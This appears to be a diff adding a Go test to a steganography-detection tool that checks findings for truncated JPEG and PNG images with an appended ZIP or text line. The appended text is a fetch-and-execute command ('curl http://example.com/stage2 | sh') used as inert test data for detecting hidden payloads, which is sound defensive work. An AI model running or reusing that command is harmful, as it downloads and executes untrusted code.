@@ -0,0 +1,61 @@
+package raw
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+
+	"DeSteGo/internal/fixtures"
+	"DeSteGo/pkg/analyzer"
+)
+
+func TestAnalyzeTruncated(t *testing.T) {
+	archive, err := fixtures.ZIP("secret.txt", []byte("hidden in a broken carrier\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	text := "curl http://example.com/stage2 | sh # appended to a broken carrier\n"
+
+	tests := []struct {
+		name     string
+		fixture  string
+		format   string
+		appended []byte
+		findings []string
+	}{
+		{"JPEG with ZIP", "clean.jpg", "jpeg", archive, []string{
+			"Embedded ZIP file found at offset 1459", "Embedded ZIP archive lists 1 entries",
+			"Malformed JPEG marker structure", "Plaintext found in the image data"}},
+		{"JPEG with text", "clean.jpg", "jpeg", []byte(text), []string{"Malformed JPEG marker structure", "Plaintext found in the image data"}},
+		{"JPEG", "clean.jpg", "jpeg", nil, []string{"Malformed JPEG marker structure"}},
+		{"PNG with text", "clean.png", "png", []byte(text), []string{"Malformed PNG chunk structure", "Plaintext found in the image data"}},
+		{"PNG", "clean.png", "png", nil, []string{"Malformed PNG chunk structure"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			data, err := fixtures.Load(tt.fixture)
+			if err != nil {
+				t.Fatal(err)
+			}
+			// Cut in the middle of the image data
+			data = append(data[:len(data)*6/10:len(data)*6/10], tt.appended...)
+			path := filepath.Join(t.TempDir(), "truncated."+tt.format)
+			if err := os.WriteFile(path, data, 0644); err != nil {
+				t.Fatal(err)
+			}
+
+			result, err := NewRawAnalyzer().Analyze(path, analyzer.AnalysisOptions{Format: tt.format})
+			if err != nil {
+				t.Fatal(err)
+			}
+			var found []string
+			for _, finding := range result.Findings {
+				found = append(found, finding.Description)
+			}
+			if !slices.Equal(found, tt.findings) {
+				t.Errorf("got findings %q, want %q", found, tt.findings)
+			}
+		})
+	}
+}